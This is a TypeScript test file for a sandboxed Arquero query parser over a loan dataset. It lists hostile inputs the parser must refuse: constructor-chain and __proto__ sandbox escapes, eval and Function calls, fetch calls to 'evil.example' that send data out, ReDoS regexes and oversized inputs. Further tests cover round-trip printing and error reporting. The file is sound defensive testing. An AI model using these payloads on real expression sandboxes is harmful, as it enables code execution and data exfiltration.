import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { LoanbookError } from '../errors';
import { printQuery } from './print-query';
import { readQuery } from './read-query';

const names = ['Income', 'Education', 'Personal Loan', 'job'];
const read = (text: string) => readQuery(text, names);
const printed = (text: string) => printQuery(read(text).steps);

function errorOf(text: string): LoanbookError {
  try {
    read(text);
  } catch (thrown) {
    if (thrown instanceof LoanbookError) return thrown;
    throw thrown;
  }
  throw new Error(`Was allowed: ${text}`);
}

/** Of each what it tries; none may be taken over. */
const hostile: readonly string[] = [
  // The way to Function through constructors.
  `filter(d => d.constructor.constructor('return self')())`,
  `filter(d => d['constructor'])`,
  `filter(d => d.__proto__)`,
  `filter(d => d['__proto__'])`,
  `filter(d => d.\\u0063onstructor)`,
  `filter(d => d['\\x63onstructor'])`,
  `filter(d => ''.constructor)`,
  `filter(d => 'a'['constructor'])`,
  `filter(d => (1).toFixed.constructor('x')())`,
  `filter(d => [].constructor)`,
  `filter(d => (() => 1).constructor('x')())`,
  `filter(d => op.constructor('return 1')())`,
  `filter(d => op['mean'](d.Income))`,
  `filter(d => op.mean.constructor('x')())`,
  `filter(d => op.__proto__)`,
  `filter(d => op.toString())`,
  `filter(d => op)`,
  `filter.constructor('return 1')()`,
  `constructor.constructor('x')()`,
  `filter(d => true).constructor('x')()`,
  `filter(d => true)['constructor']('x')()`,
  `filter(d => true).__proto__.polluted(1)`,
  // Globals and what can send.
  `fetch('https://evil.example')`,
  `filter(d => fetch('//evil.example'))`,
  `filter(d => self.postMessage(d))`,
  `filter(d => globalThis)`,
  `filter(d => this.x)`,
  `filter(d => eval('1'))`,
  `filter(d => Function('1')())`,
  `filter(d => import('x'))`,
  `filter(d => import.meta)`,
  `filter(d => new Date())`,
  `filter(d => Math.random())`,
  `filter(arguments => arguments.x)`,
  `filter(eval => 1)`,
  `filter(op => op.mean(op.Income))`,
  `filter(undefined => true)`,
  // Statements, side effects.
  `filter(d => { return true })`,
  `filter(function (d) { return true })`,
  `filter(async d => true)`,
  `filter(d => (d.Income = 1))`,
  `filter(d => d.Income++)`,
  `filter(d => delete d.Income)`,
  `filter(d => (1, true))`,
  `filter(d => { while (true) {} })`,
  `filter(d => yield)`,
  `filter(d => typeof d.Income)`,
  `filter(d => void 0)`,
  `filter(d => 'x' in d)`,
  `filter(d => d instanceof op)`,
  `filter(d => d?.Income)`,
  `filter?.(d => true)`,
  `filter(d => op?.abs(1))`,
  `while (true) {}`,
  `let x = 1`,
  `filter(d => true); fetch('x')`,
  `filter(d => true)\nderive({x: d => 1})`,
  // Inputs that are not one plain row.
  `filter(({Income}) => Income)`,
  `filter((...d) => d)`,
  `filter((d, e) => e)`,
  `filter((d = fetch('x')) => true)`,
  `filter(d => d)`,
  `filter(d => d[0])`,
  `filter(d => d['Inc' + 'ome'])`,
  'filter(d => d[`Income`])',
  `filter(d => d[d.Income])`,
  `filter(d => d.Income.toString)`,
  `filter(d => d.Income.toString())`,
  `filter(d => d.Income['x'])`,
  `filter(d => e => e.Income)`,
  `filter(d => op.abs(e => 1))`,
  // Objects and lists.
  `derive({get x() { return fetch('x') }})`,
  `derive({x() { return 1 }})`,
  `derive({['x']: d => 1})`,
  `derive({...x})`,
  `derive({x})`,
  `derive({__proto__: d => 1})`,
  `derive({'__proto__': d => 1})`,
  `derive({constructor: d => 1})`,
  `derive({prototype: d => 1})`,
  `derive({toString: d => 1})`,
  `derive({'': d => 1})`,
  `rename({Income: '__proto__'})`,
  `count({as: 'constructor'})`,
  `fold('Income', {as: ['__proto__', 'x']})`,
  `derive({x: d => ({a: 1})})`,
  `derive({x: d => [1, 2]})`,
  `derive({x: d => op.recode(d.job, {__proto__: 1})})`,
  `derive({x: d => op.recode(d.job, {get a() { return 1 }})})`,
  `derive({x: d => op.includes([...d.job], 1)})`,
  `derive({x: d => op.includes([, 1], 1)})`,
  `filter(...[d => true])`,
  `derive({x: d => op.greatest(...d.Income)})`,
  // Texts that Arquero would take for code.
  `filter('op.random() > 0.5')`,
  `derive({x: 'd.Income'})`,
  `rollup({x: 'op.count()'})`,
  `orderby({x: 'op.random()'})`,
  `dedupe({Income: 'op.random()'})`,
  `fold([{Income: 'op.random()'}])`,
  `pivot([{Income: 'op.random()'}], 'job')`,
  `pivot('job', ['Income', {Income: 'op.random()'}])`,
  `select(not({Income: 'op.random()'}))`,
  `groupby(d => d.Income)`,
  `select(t => ['Income'])`,
  // Templates, patterns, numbers of other kinds.
  'filter(d => op.abs`1`)',
  'filter(d => d`1`)',
  'filter`d`',
  'filter(d => `${fetch("x")}`)',
  'derive({x: d => `${d}`})',
  `filter(d => /(a+)+$/.test(d.job))`,
  `filter(d => op.match(d.job, /(a+)+$/))`,
  `filter(d => op.replace(d.job, /(a+)+$/, ''))`,
  `select(matches(/(a+)+$/))`,
  `filter(d => 10n > 1)`,
  `filter(d => 1e999)`,
  // Verbs and functions that are not on the lists.
  `escape(d => fetch('x'))`,
  `derive({x: escape(d => 1)})`,
  `params({x: 1}).filter(d => true)`,
  `join(other)`,
  `sample(10)`,
  `reify()`,
  `objects()`,
  `unroll('job')`,
  `derive({x: d => op.row_object()})`,
  `derive({x: d => op.random()})`,
  `derive({x: d => op.now()})`,
  `derive({x: d => op.repeat('x', 1e9)})`,
  `derive({x: d => op.padstart('x', 1e9)})`,
  `derive({x: d => op.sequence(0, 1e9)})`,
  `derive({x: d => op.parse_json('{}')})`,
  `rollup({x: d => op.object_agg(d.job, d.Income)})`,
  `rollup({x: d => op.array_agg(d.Income)})`,
  `derive({x: d => op.hasOwnProperty('x')})`,
  // Too much.
  `filter(d => ${'('.repeat(500)}1${')'.repeat(500)})`,
  `filter(d => ${'!'.repeat(3500)}1)`,
  `filter(d => ${'-(1+'.repeat(60)}1${')'.repeat(60)})`,
  `filter(d => ${'1+'.repeat(1900)}1)`,
  `filter(d => op.includes([${'!1,'.repeat(1200)}1], 1))`,
  `filter(d => ${'d=>'.repeat(1200)}1)`,
  `derive({x: d => 1})${".count({as: 'x'})".repeat(130)}`,
  `filter(d => '${'x'.repeat(4000)}')`,
  'filter(d => `'.padEnd(3000, '${`')
];

describe('readQuery', () => {
  it.each(hostile.map((text) => [text.slice(0, 80), text] as const))('refuses %s', (_, text) => {
    const error = errorOf(text);
    expect(error.code).toBe('bad-query');
    expect(error.subject.from).toBeGreaterThanOrEqual(0);
    expect(error.subject.to).toBeGreaterThan(error.subject.from!);
    expect(error.subject.to).toBeLessThanOrEqual(text.length);
    expect(Object.hasOwn(Object.prototype, 'polluted')).toBe(false);
  });

  it('takes over and prints anew what people write', () => {
    expect(
      printed(
        `filter(r => r.Income > 100 /* thousand */)
          .groupby('Education')
          .rollup({n: op.count(), rate: op.mean(d => d['Personal Loan'])}).orderby('rate');`
      )
    ).toBe(
      'filter(d => (d["Income"] > 100))\n  .groupby("Education")\n  ' +
        '.rollup({"n": d => op.count(), "rate": d => op.mean(d["Personal Loan"])})\n  .orderby("rate")'
    );
  });

  it.each([
    ['', ''],
    ['  // only a remark', ''],
    ["count({as: 'n'})", 'count({"as": "n"})'],
    ['slice(-5, Infinity)', 'slice(-5, Infinity)'],
    [
      "groupby({band: bin('Income', {step: 20})}).count()",
      'groupby({"band": bin("Income", {step: 20})})\n  .count()'
    ],
    [
      "orderby(desc('Income'), d => -d.Education)",
      'orderby(desc("Income"), d => (-d["Education"]))'
    ],
    [
      "rollup({m: op.quantile('Income', 0.9)})",
      'rollup({"m": d => op.quantile(d["Income"], 0.9)})'
    ],
    [
      "derive({x: d => op.recode(d.job, {'a b': 1, c: null}, undefined) ?? `<${d.job}>\\`$`})",
      'derive({"x": d => (op.recode(d["job"], {"a b": 1, "c": null}, undefined) ?? `<${d["job"]}>\\`\\$`)})'
    ],
    ["filter(d => d.job === 'é\u2028')", 'filter(d => (d["job"] === "\\u00e9\\u2028"))'],
    ["select(not('job'), {Income: 'money'})", 'select(not("job"), {"Income": "money"})']
  ])('%j is printed %j, and its printing again', (text, wanted) => {
    expect(printed(text)).toBe(wanted);
    expect(printed(wanted)).toBe(wanted);
  });

  it.each([
    ['filter(d => d.Incme > 1)', 14, 'Income'],
    ["groupby('education')", 8, 'Education'],
    ["select('Income').filter(d => d.Education)", 31, 'Income'],
    ["groupby('job').count().filter(d => d.cuont > 1)", 37, 'count'],
    ["rename({Income: 'money'}).orderby('Income')", 34, 'There are'],
    ['fliter(d => true)', 0, 'filter'],
    ["rollup({x: op.maen('Income')})", 14, 'op.mean']
  ])('%s: the error stands at %i and names %s', (text, from, hint) => {
    const error = errorOf(text);
    expect(error.subject.from).toBe(from);
    expect(error.message).toContain(hint);
  });

  it('knows the columns through the chain, and which of the table it needs', () => {
    const query = read(
      "derive({big: d => d.Income > 100}).groupby('big', 'job').rollup({n: op.count(), top: op.max('Income')})"
    );
    expect([...query.columns!]).toEqual([
      ['big', { kind: 'new' }],
      ['job', { kind: 'same', source: 'job' }],
      ['n', { kind: 'count' }],
      ['top', { kind: 'value', source: 'Income' }]
    ]);
    expect(query.used).toEqual(['Income', 'job']);
    expect(read("select(range('Income', 'Personal Loan'))").used).toEqual(names.slice(0, 3));
    expect(read("pivot('job', 'Income').filter(d => d.admin > 1)").columns).toBeNull();
    expect([
      ...read("fold(['Income', 'Education'], {as: ['what', 'much']})").columns!.keys()
    ]).toEqual(['Personal Loan', 'job', 'what', 'much']);
  });

  it('figures of a group stand in their place only', () => {
    expect(errorOf('rollup({x: d => d.Income})').message).toContain('op.mean(d.Income)');
    expect(errorOf('rollup({x: d => op.mean(op.sum(d.Income))})').message).toContain('whole group');
    expect(errorOf('rollup({x: d => op.rank()})').message).toContain('derive and filter');
    expect(errorOf('rollup({x: d => op.quantile(d.Income, d.Education)})').message).toContain(
      'same for all'
    );
    expect(errorOf("rollup({x: d => op.mean('Income')})").message).toContain("d['Income']");
    expect(
      printed('derive({x: d => d.Income / op.mean(d.Income) + op.lag(d.Income, 1, -1)})')
    ).toContain('op.lag(d["Income"], 1, (-1))');
  });

  it('prints every expression so that it is read the same again', () => {
    const leaf = fc.oneof(
      fc.constantFrom(
        'd.Income',
        "d['Personal Loan']",
        'null',
        'true',
        'undefined',
        'NaN',
        '1.5e-7'
      ),
      fc.integer({ min: 0 }).map(String),
      fc.string({ unit: 'binary' }).map((text) => JSON.stringify(text)),
      fc.string().map((text) => `\`${text.replace(/[`\\$]/g, '\\$&')}\``)
    );
    const { expression } = fc.letrec<{ expression: string }>((tie) => ({
      expression: fc.oneof(
        { maxDepth: 4 },
        leaf,
        fc
          .tuple(
            tie('expression'),
            fc.constantFrom('+', '-', '*', '%', '===', '<', '&&', '||'),
            tie('expression')
          )
          .map(([left, operator, right]) => `(${left}) ${operator} (${right})`),
        tie('expression').map((of) => `-(${of})`),
        fc.tuple(tie('expression'), tie('expression')).map(([a, b]) => `${a} ? ${b} : !(${a})`),
        fc
          .tuple(tie('expression'), tie('expression'))
          .map(([a, b]) => `op.greatest(${a}, op.mean(d.Income), ${b})`),
        tie('expression').map((of) => `\`a\${${of}}b\``)
      )
    }));
    fc.assert(
      fc.property(expression, (body) => {
        const text = `derive({x: d => ${body}})`;
        fc.pre(text.length < 1500);
        const { steps } = read(text);
        expect(readQuery(printQuery(steps), names).steps).toEqual(steps);
      }),
      { seed: 1, numRuns: 150 }
    );
  });
});
